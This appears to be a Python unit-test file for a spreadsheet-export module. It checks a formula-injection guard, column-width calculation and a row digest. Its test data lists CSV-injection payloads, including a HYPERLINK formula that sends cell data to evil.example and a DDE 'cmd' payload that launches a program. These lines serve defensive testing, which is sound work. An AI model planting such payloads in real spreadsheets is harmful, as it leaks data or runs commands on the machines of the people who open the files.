"""Unit tests for sadie_pipeline.core.spreadsheet: the formula-injection guard (checked by saving
real .xlsx files with openpyxl and reading them back), column widths and the rows digest."""

from __future__ import annotations

import hashlib
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell

from sadie_pipeline.core.spreadsheet import (
    MAX_CELL_CHARS,
    RowsDigest,
    clean_text,
    column_width,
    is_formula_like,
    rows_digest,
    safe_cell,
)

# The OWASP "CSV injection" prefixes, after leading whitespace too, and their full-width forms.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1 305 555 0101",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "\n@SUM(1)",
    "\uff1d1+1",  # full-width =
]
PLAIN = ["", "Hotel", "a=b", "1-2", "   ", "Anne's", "e-mail: x@y.com", "100%"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_detected(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_not_formula_like(text):
    assert not is_formula_like(text)


@pytest.mark.parametrize("value", [None, 0, -5, 4.5, Decimal("1.5"), True, date(2024, 1, 2), datetime(2024, 1, 2, 3, 4)])
def test_safe_cell_leaves_non_strings_alone(value):
    assert safe_cell(value) is value


def test_safe_cell_returns_plain_text_as_str():
    assert safe_cell("Grand Hotel") == "Grand Hotel"
    assert type(safe_cell("Grand Hotel")) is str


def test_safe_cell_removes_characters_an_xlsx_cannot_hold_and_truncates():
    assert safe_cell("Grand\x00 Ho\x0btel\x1f\ud800") == "Grand Hotel"
    assert safe_cell("tab\tand\nnewline") == "tab\tand\nnewline"  # legal in XML: kept
    assert len(safe_cell("x" * (MAX_CELL_CHARS + 10))) == MAX_CELL_CHARS
    assert clean_text("ok") == "ok"


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_safe_cell_gives_formula_like_text_as_a_text_cell(text):
    cell = safe_cell(text)
    assert isinstance(cell, Cell)
    assert cell.data_type == "s"
    assert cell.value == text


def _roundtrip(write_only: bool, values: list, with_sheet: bool = True):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("S") if write_only else wb.active
    ws.append([safe_cell(v, ws if with_sheet else None) for v in values])
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return load_workbook(buf).worksheets[0]


def _unsafe_roundtrip(values: list):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append(values)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return load_workbook(buf).worksheets[0]


def test_without_the_guard_openpyxl_would_store_a_formula():
    # Why safe_cell exists: openpyxl makes any str starting with "=" a formula.
    ws = _unsafe_roundtrip(["=1+1"])
    assert ws["A1"].data_type == "f"


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_guarded_text_is_saved_as_text_with_its_original_value(write_only):
    # CR is left out: XML parsers turn a raw CR into LF, so openpyxl cannot round-trip it (the
    # export writer's xml engine escapes it; see test_workbook).
    texts = [t for t in FORMULA_LIKE if "\r" not in t]
    ws = _roundtrip(write_only, texts)
    for col, text in enumerate(texts, 1):
        cell = ws.cell(row=1, column=col)
        assert cell.data_type == "s", text
        assert cell.value == text
        assert cell.quotePrefix  # Excel keeps it text when edited, and shows no apostrophe


def test_carriage_return_prefix_is_stored_as_text():
    ws = _roundtrip(True, ["\r=1+1"])
    assert ws["A1"].data_type == "s"
    assert ws["A1"].value in ("\r=1+1", "\n=1+1")


def test_detached_guard_cell_is_text_without_a_style():
    ws = _roundtrip(False, ["=1+1", "-5"], with_sheet=False)
    assert [(c.data_type, c.value, c.quotePrefix) for c in ws[1]] == [("s", "=1+1", False), ("s", "-5", False)]


def test_plain_values_keep_their_types_after_the_guard():
    ws = _roundtrip(True, ["Hotel", 12, 4.5, True, date(2024, 5, 1)])
    assert [c.data_type for c in ws[1]] == ["s", "n", "n", "b", "d"]
    assert [c.value for c in ws[1]][:4] == ["Hotel", 12, 4.5, True]
    assert not any(c.quotePrefix for c in ws[1])


# --- column widths ------------------------------------------------------------------------------

def test_column_width_fits_the_header_and_widest_value_plus_padding():
    assert column_width("Hotel", ["The Grand Oceanfront"]) == len("The Grand Oceanfront") + 2
    assert column_width("Management company", ["Acme"]) == len("Management company") + 2


def test_column_width_is_clamped():
    assert column_width("ID", [1, 22]) == 8
    assert column_width("Website", ["x" * 500]) == 60
    assert column_width("ID", [], min=4) == 4
    assert column_width("Website", ["x" * 500], max=40) == 40


def test_column_width_ignores_none_and_uses_the_longest_line():
    assert column_width("Notes", [None, "short\n" + "a much longer second line"]) == len("a much longer second line") + 2


def test_column_width_counts_wide_characters_twice_and_formats_values():
    assert column_width("City", ["東京都港区"]) == 12  # 5 wide characters
    assert column_width("Launched", [datetime(2024, 5, 1, 9, 30)]) == len("2024-05-01 09:30") + 2
    assert column_width("Rating", [4.123456789012345]) == len("4.123456789") + 2


def test_column_width_returns_a_float():
    assert isinstance(column_width("Hotel", ["x" * 20]), float)


# --- digest -------------------------------------------------------------------------------------

def test_digest_is_sha256_of_canonical_json_lines():
    # Pins the format: a change here changes every stored export digest.
    expected = hashlib.sha256(b'[1,"a",null]\n["b"]\n').hexdigest()
    assert rows_digest([[1, "a", None], ("b",)]) == expected


def test_same_data_same_digest_whatever_the_container_or_dict_order():
    rows_a = [[1, "Grand", {"b": 1, "a": [1, 2]}], [2, "Palm", {"x"}]]
    rows_b = [(1, "Grand", {"a": [1, 2], "b": 1}), (2, "Palm", frozenset({"x"}))]
    assert rows_digest(rows_a) == rows_digest(rows_b)
    assert rows_digest(iter(rows_a)) == rows_digest(rows_a)  # a generator: streamed


def test_digest_changes_with_the_data():
    base = rows_digest([[1, "Grand", 4.5]])
    assert rows_digest([[1, "Grand", 4.6]]) != base
    assert rows_digest([[1, "Grand ", 4.5]]) != base
    assert rows_digest([[1, "Grand", 4.5], [2, "Palm", 3.0]]) != base
    assert rows_digest([[1, "Grand", 4.5, None]]) != base


def test_digest_keeps_row_and_cell_boundaries():
    assert rows_digest([["a", "b"]]) != rows_digest([["a"], ["b"]])
    assert rows_digest([["a,b"]]) != rows_digest([["a", "b"]])
    assert rows_digest([["a\nb"]]) != rows_digest([["a"], ["b"]])


def test_digest_tells_types_apart():
    assert rows_digest([[None]]) != rows_digest([[""]])
    assert rows_digest([[date(2024, 1, 2)]]) != rows_digest([["2024-01-02"]])
    assert rows_digest([[datetime(2024, 1, 2)]]) != rows_digest([[date(2024, 1, 2)]])
    assert rows_digest([[True]]) != rows_digest([[1]])


def test_digest_float_formatting_is_stable():
    assert rows_digest([[0.1 + 0.2]]) == hashlib.sha256(b"[0.30000000000000004]\n").hexdigest()
    assert rows_digest([[Decimal("4.50")]]) == rows_digest([[4.5]])
    assert rows_digest([[1e-7]]) == hashlib.sha256(b"[1e-07]\n").hexdigest()


def test_digest_of_a_guard_cell_is_its_text():
    assert rows_digest([[safe_cell("=1+1")]]) == rows_digest([["=1+1"]])


def test_streaming_digest_matches_and_counts_rows():
    digest = RowsDigest()
    for row in ([1, "a"], [2, "b"]):
        digest.update(row)
    assert digest.rows == 2
    assert digest.hexdigest() == rows_digest([[1, "a"], [2, "b"]])


def test_digest_handles_dicts_with_keys_of_mixed_types():
    assert rows_digest([[{1: "a", "b": 2}]]) == rows_digest([[{"b": 2, 1: "a"}]])
